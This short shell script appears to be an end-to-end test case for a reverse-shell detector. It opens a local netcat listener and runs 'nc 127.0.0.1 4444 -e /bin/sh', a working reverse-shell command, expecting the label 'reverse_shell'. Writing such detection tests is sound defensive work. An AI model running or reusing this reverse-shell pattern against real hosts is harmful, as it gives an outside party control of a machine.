#!/bin/sh
# Attack: a reverse shell, busybox nc -e: the shell's standard input and output
# are the TCP connection. The listener, in the same container, sends "exit" so
# the shell ends at once. Expected: reverse_shell.
sleep "${E2E_DELAY:-0}"
(echo exit | nc -l -p 4444) &
sleep 0.3
nc 127.0.0.1 4444 -e /bin/sh
wait
